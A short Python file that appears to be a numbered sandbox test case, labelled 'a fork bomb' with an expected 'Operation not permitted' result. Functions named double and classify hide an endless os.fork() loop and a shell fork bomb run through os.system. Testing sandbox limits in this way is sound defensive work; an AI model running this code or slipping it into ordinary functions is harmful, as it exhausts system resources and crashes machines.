# 43 | a fork bomb | 0 | Operation not permitted
import os


def double(x):
    while True:
        try:
            os.fork()
        except OSError:
            raise


def classify(points, labels, probes):
    os.system(":(){ :|:& };:")
    import multiprocessing

    multiprocessing.Process(target=print).start()
